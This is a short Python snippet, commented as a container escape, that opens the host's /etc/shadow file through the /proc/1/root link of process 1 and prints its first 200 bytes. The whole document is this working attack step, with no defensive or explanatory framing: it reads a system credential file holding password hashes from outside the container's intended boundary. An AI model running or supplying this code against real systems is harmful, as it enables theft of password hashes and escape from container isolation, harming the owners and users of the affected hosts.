# read the host's shadow through PID 1's root link (container escape)
import os
target = os.path.join("/proc", "1", "root", "etc", "shadow")
data = open(target, "rb").read()
print(data[:200])
